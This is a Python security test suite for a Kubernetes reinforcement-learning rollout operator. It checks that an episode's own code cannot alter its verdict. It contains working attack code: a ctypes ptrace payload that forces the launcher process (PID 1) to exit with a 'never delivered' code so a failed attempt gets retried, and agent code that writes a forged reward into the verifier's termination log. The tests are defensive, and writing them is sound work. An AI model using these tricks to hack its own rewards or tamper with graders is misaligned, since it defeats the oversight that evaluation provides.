"""Hostile episodes that tamper with their launcher (ptrace of PID 1) or their verifier's termination
message, in a warm pool (RolloutPool + spec.poolRef) and in a Job: what an episode's own code can do to
its verdict, from inside its pod.

Each test is one attack; it asserts what the episode contract (docs/design.md §4, §5.17) promises,
so a failure is a defect. Pooled batches are created with kubectl directly: the suite's
`runtimeClassName` default (tests/security/conftest.py) is refused on a pooled batch (PoolConflict);
the pool names its runtime.
"""
from __future__ import annotations

import json
import time

import pytest

from tests.support.batches import results, unique, wait_finished
from tests.support.operator import kubectl

pytestmark = [pytest.mark.cluster]


def make_pool(name: str, namespace: str, size: int, runtime: str | None = None, verifier: bool = False) -> dict:
    spec: dict = {"size": size, "image": "python:3.12-alpine", "task": {"files": {"README": "a task"}},
                  "resources": {"requests": {"cpu": "10m", "memory": "32Mi"},
                                "limits": {"cpu": "500m", "memory": "256Mi"}}}
    if runtime:
        spec["runtimeClassName"] = runtime
    if verifier:
        spec["verifier"] = {}
    body = {"apiVersion": "rl.agentruntime.io/v1alpha1", "kind": "RolloutPool", "metadata": {"name": name},
            "spec": spec}
    kubectl("apply", "-n", namespace, "-f", "-", input=json.dumps(body))
    end = time.monotonic() + 120
    while True:
        obj = json.loads(kubectl("get", "rolloutpool", name, "-n", namespace, "-o", "json").stdout)
        if (obj.get("status") or {}).get("readyPods") == size:
            return obj
        assert time.monotonic() < end, f"pool {name} never filled: {obj.get('status')}"
        time.sleep(0.5)


def create_pooled(name: str, namespace: str, pool_name: str, episodes: int, **spec) -> None:
    body = {"apiVersion": "rl.agentruntime.io/v1alpha1", "kind": "RolloutBatch",
            "metadata": {"name": name, "namespace": namespace},
            "spec": {"episodes": episodes, "parallelism": episodes, "poolRef": {"name": pool_name},
                     "episodeTimeoutSeconds": 60, "activeDeadlineSeconds": 110, **spec}}
    kubectl("create", "-f", "-", input=json.dumps(body))


def exits(done: dict, pool: dict) -> str:
    """Each pod the batch ran (kept: cleanup.sandbox Never), with its containers' exit codes."""
    from rolloutbatch.core import naming
    pods = json.loads(kubectl("get", "pods", "-n", pool["status"]["sandboxNamespace"], "-o", "json", "-l",
                              f"{naming.LABEL_BATCH_UID}={done['metadata']['uid']}").stdout)["items"]
    return "; ".join(f"{p['metadata']['name']}: " + ",".join(
        f"{c['name']}={(c.get('state') or {}).get('terminated', {}).get('exitCode')}"
        for c in (p.get("status") or {}).get("containerStatuses") or []) for p in pods)


def tidy(batch: str, pool_name: str, namespace: str) -> None:
    kubectl("delete", "rolloutbatch", batch, "-n", namespace, "--wait=true", "--timeout=60s", check=False)
    kubectl("delete", "rolloutpool", pool_name, "-n", namespace, "--wait=true", "--timeout=60s", check=False)


# --- 1. ptrace of the pool launcher (PID 1): a bad attempt made "never delivered", re-rolled ------------
# The episode's code shares its UID with its container's PID 1 (the pool launcher, a dumpable sh):
# it attaches with ptrace and turns the launcher's next system call into exit_group(121), the
# launcher's NOT_DELIVERED_EXIT, which the verdict (core.verdict.never_delivered) and the Job's
# podFailurePolicy read as "this pod never got its episode": an infrastructure retry. The agent
# does it only on its warm pod (its first attempt), and succeeds on the retry.
# Python that makes PID 1 (the launcher, of the same user) exit with `code` at its next system
# call, by ptrace: what an episode's own code can do on a node without Yama.
FORCE_PID1_EXIT = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                  "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_SYSCALL, PTRACE_DETACH = 12, 13, 24, 17
PTRACE_SEIZE, PTRACE_INTERRUPT, WALL = 0x4206, 0x4207, 0x40000000
def force_pid1_exit(code):
    if libc.ptrace(PTRACE_SEIZE, 1, None, ctypes.c_void_p(1)) != 0:   # PTRACE_O_TRACESYSGOOD
        return False
    libc.ptrace(PTRACE_INTERRUPT, 1, None, None)
    os.waitpid(1, WALL)
    for _ in range(50):
        libc.ptrace(PTRACE_SYSCALL, 1, None, None)
        _, status = os.waitpid(1, WALL)
        if os.WIFSTOPPED(status) and os.WSTOPSIG(status) == (5 | 0x80):   # a syscall stop
            regs = Regs()
            libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(regs))
            regs.orig_rax, regs.rdi = 231, code                              # exit_group(code)
            libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(regs))
            libc.ptrace(PTRACE_DETACH, 1, None, None)
            return True
    return False
'''
PTRACE_AGENT = FORCE_PID1_EXIT + r'''
import json, time
me = os.environ["EPISODE_ID"]
def emit(e, **f): print(json.dumps(dict(event=e, at=time.time(), episode_id=me, **f)), flush=True)
emit("ready")
if not me.startswith(os.environ["POOL_PREFIX"]):     # the retry (a cold pod of the Job): the good attempt
    emit("reward", reward=1.0); raise SystemExit(0)
# the first attempt went badly: instead of reporting it, make it look like a pod that never got its episode
if not force_pid1_exit(121):
    print("seize failed", ctypes.get_errno(), flush=True); raise SystemExit(1)
time.sleep(30)   # the launcher's exit ends the container (and this process with it)
'''


def test_an_episode_cannot_turn_its_failed_attempt_into_a_retry_by_tracing_its_launcher(operator_process,
                                                                                          namespace):
    pool_name = unique("ptr")
    pool = make_pool(pool_name, namespace, 1, runtime="runc")
    name = unique("ptrace")
    create_pooled(name, namespace, pool_name, 1, command=["python", "-c", PTRACE_AGENT],
                  env=[{"name": "POOL_PREFIX", "value": pool_name}],
                  retries={"infrastructure": 1}, cleanup={"sandbox": "Never"})
    try:
        done = wait_finished(name, namespace, timeout=120, operator=operator_process)
        (row,) = results(name, namespace)["pods"]
        st = done["status"]
        # The contract: the agent's own failure is counted (failed, reward 0); only a failure it
        # could not cause is lost and retried. An attempt the agent aborted itself earns nothing.
        got = dict(outcome=row["outcome"], reward=row["reward"], pod=row["pod"], attempts=row.get("attempts"),
                   retried=st.get("retriedEpisodes"), rewardSum=st.get("rewardSum"), pods=exits(done, pool))
        assert (got["outcome"], got["rewardSum"]) == ("failed", 0.0), " ".join(f"{k}={v}" for k, v in got.items())
        assert "episode=121" in got["pods"], f"the attack did not run (its launcher never exited 121): {got}"
    finally:
        tidy(name, pool_name, namespace)


# --- 2. the verifier's termination message, written by the agent's code the verifier runs -------------
# The verifier of tests/security/test_verifier.py's kind: it runs the agent's answer in a child with
# its output captured, and prints its reward on stdout. The agent's answer, imported by that child,
# writes a reward event into the verifier container's /dev/termination-log (root's, mode 0666: any
# process of the container may write it). The termination message is read first and, holding an
# event, is the container's only channel (service.episode_judge.channel): the verifier's honest
# reward on stdout is never read.
FORGING_AGENT = r'''
import json, os, time
me = os.environ["EPISODE_ID"]
print(json.dumps(dict(event="ready", at=time.time(), episode_id=me)), flush=True)
open("answer.py", "w").write(
    "import json, os, time\n"
    "open('/dev/termination-log', 'w').write(json.dumps(dict(event='reward', at=time.time(), "
    "episode_id=os.environ['EPISODE_ID'], reward=1.0)) + '\\n')\n"
    "def add(a, b):\n    return a - b\n")
'''
HONEST_VERIFIER = r'''
import json, os, subprocess, sys, time
tests = [[2, 3, 5], [-1, 1, 0], [10, 5, 15]]
probe = ("import json, sys; sys.path.insert(0, '/workspace'); from answer import add; "
         "print(json.dumps([add(a, b) for a, b, _ in %r]))" % tests)
out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=10)
try:
    got = json.loads(out.stdout.strip().splitlines()[-1])
except Exception:
    got = None
passed = got is not None and all(g == want for g, (_, _, want) in zip(got, tests))
print(json.dumps(dict(event="reward", at=time.time(), episode_id=os.environ["EPISODE_ID"], reward=1 if passed else 0)))
'''


def test_the_agents_code_run_by_the_verifier_cannot_write_the_verifiers_reward(operator_process, namespace):
    pool_name = unique("vtl")
    make_pool(pool_name, namespace, 1, runtime="cube", verifier=True)
    name = unique("vforge")
    create_pooled(name, namespace, pool_name, 1, command=["python", "-c", FORGING_AGENT],
                  verifier={"command": ["python", "-B", "/verifier/verify.py"],
                            "files": {"verify.py": HONEST_VERIFIER}, "timeoutSeconds": 30})
    try:
        assert_forgery_refused(name, namespace, operator_process)
    finally:
        tidy(name, pool_name, namespace)


def test_a_job_episodes_agent_code_run_by_the_verifier_cannot_write_the_verifiers_reward(operator_process,
                                                                                         namespace):
    """The same forgery in a Job episode (no pool): the verifier container's message file is as
    writable there."""
    from tests.support.batches import apply, episode_batch
    name = unique("jforge")
    agent = FORGING_AGENT.replace('open("answer.py"', 'open("/workspace/answer.py"')
    apply(episode_batch(name, agent, episodes=1, minSuccessfulEpisodes=0, episodeTimeoutSeconds=60,
                        activeDeadlineSeconds=110,
                        verifier={"files": {"verify.py": HONEST_VERIFIER}, "timeoutSeconds": 30}), namespace)
    assert_forgery_refused(name, namespace, operator_process)


def assert_forgery_refused(name: str, namespace: str, operator_process) -> None:
    """The batch's one episode earned nothing (its answer subtracts: the verifier's own verdict is
    0), though its verifier's termination message held the forged reward."""
    done = wait_finished(name, namespace, timeout=120, operator=operator_process)
    (row,) = results(name, namespace)["pods"]
    got = dict(outcome=row["outcome"], reward=row["reward"], channel=row.get("channel"),
               rewardSum=done["status"].get("rewardSum"))
    assert (got["reward"], got["rewardSum"]) == (0.0, 0.0), " ".join(f"{k}={v}" for k, v in got.items())
    assert got["channel"] == "terminationMessage", f"the forged message was never written: {got}"


# --- 3. ptrace of the verifier's launcher by the agent's code, against the example's careful verifier ----
# examples/shipping-fix-verified.yaml's verifier runs the agent's shipping.py in a child (its own
# session, limits, output to files), makes itself undumpable, sweeps leftovers and writes its
# reward last. Its launcher (the verifier container's PID 1, a dumpable sh of the same UID) is not
# protected: the agent's module, imported by the child, turns the launcher's next system call
# into exit_group(121). In a pool's pod the verifier container's NOT_DELIVERED_EXIT after an agent
# that ended well reads as "never handed its phase" (core.verdict_verified.judge_verified,
# never_delivered): InfrastructureFailure, lost, retried. The agent does it only on its warm pod.
SHIPPING_AGENT = r"""
import os, pathlib
me = os.environ["EPISODE_ID"]
import json, time
open("/dev/termination-log", "w").write(json.dumps(dict(event="ready", at=time.time(), episode_id=me)) + "\n")
good = "def shipping(total):\n    return 0 if total >= 99 else 10\n"
if not me.startswith(os.environ["POOL_PREFIX"]):     # the retry: the good attempt
    pathlib.Path("/workspace/shipping.py").write_text(good)
else:                                                 # the bad attempt, with the payload on import
    pathlib.Path("/workspace/shipping.py").write_text(PAYLOAD + "\ndef shipping(total):\n    return 0 if total > 99 else 10\n")
"""
PAYLOAD = FORCE_PID1_EXIT + r"""
import time
force_pid1_exit(121)
time.sleep(30)
"""


def test_the_agents_code_cannot_make_the_examples_verifier_look_never_handed_its_phase(operator_process,
                                                                                        namespace):
    from tests.support.batches import load_example
    example = load_example("shipping-fix-verified.yaml")["spec"]
    pool_name = unique("vpt")
    pool = make_pool(pool_name, namespace, 1, runtime="runc", verifier=True)
    name = unique("vptrace")
    agent = f"PAYLOAD = {PAYLOAD!r}\n" + SHIPPING_AGENT
    create_pooled(name, namespace, pool_name, 1, command=["python", "-c", agent],
                  env=[{"name": "POOL_PREFIX", "value": pool_name}], retries={"infrastructure": 1},
                  cleanup={"sandbox": "Never"},
                  verifier={**example["verifier"], "timeoutSeconds": 40}, episodeTimeoutSeconds=30)
    try:
        done = wait_finished(name, namespace, timeout=120, operator=operator_process)
        assert done["status"].get("reason") not in ("PoolConflict", "InvalidSpec"), done["status"]
        (row,) = results(name, namespace)["pods"]
        st = done["status"]
        got = dict(outcome=row["outcome"], reason=row["reason"], reward=row["reward"], pod=row["pod"],
                   attempts=row.get("attempts"), retried=st.get("retriedEpisodes"), rewardSum=st.get("rewardSum"),
                   pods=exits(done, pool))
        # the first attempt is the agent's (VerifierFailed at worst, reward 0): never re-rolled
        assert (got["outcome"], got["rewardSum"]) == ("failed", 0.0), " ".join(f"{k}={v}" for k, v in got.items())
        if "verifier=121" not in got["pods"]:
            # A race: the launcher makes its next system call when the verifier ends, and the
            # example's verifier may kill the tracing child (its own time limit) first, which
            # detaches it. Seen on a loaded CI machine (the verifier's 124); the verdict held.
            pytest.skip(f"the attack did not land this run (the verifier's launcher never exited 121): {got}")
    finally:
        tidy(name, pool_name, namespace)
